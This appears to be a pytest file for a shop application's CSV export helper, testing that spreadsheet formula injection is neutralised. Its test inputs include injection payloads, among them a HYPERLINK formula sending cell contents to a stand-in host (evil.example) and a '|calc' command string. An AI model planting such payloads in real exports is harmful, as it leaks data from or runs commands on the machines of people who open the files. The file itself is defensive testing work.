"""Tables for spreadsheets."""

import csv
import io

import pytest

from shophub.lib.csv_cells import safe_cell, table


@pytest.mark.parametrize(
    "text",
    ["=1+1", "=HYPERLINK(\"https://evil.example?\"&A1)", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1",
     "\u00a0=1",
     "\ufeff=1", "\u200b=1", "\x00=1", "|calc", "%0A=1", "\uff1d1"],
)  # fmt: skip
def test_known_failure_34_no_text_becomes_a_formula(text: str):
    """Known failure 34: a name with markup in it runs in an export: a spreadsheet computes it."""
    assert safe_cell(text).startswith("'")


@pytest.mark.parametrize("text", ["", "Ada", "a=b", "1-2", "ada@example.com", "O'Neil", "<b>", "ä", "3 %"])
def test_ordinary_texts_stay_as_they_are(text: str):
    assert safe_cell(text) == text


def test_numbers_stay_numbers():
    assert [safe_cell(value) for value in (-5, 0, 5998, True, False, None)] == ["-5", "0", "5998", "yes", "no", ""]


def test_table_is_read_back_as_it_was_written():
    rows = [('Ada "A" Lovelace', 5, None), ("two\r\nlines; and, commas", -5, True)]

    read = list(csv.reader(io.StringIO(table(("name", "units", "note"), rows).removeprefix("\ufeff"), newline="")))

    assert read == [
        ["name", "units", "note"],
        ['Ada "A" Lovelace', "5", ""],
        ["two\r\nlines; and, commas", "-5", "yes"],
    ]
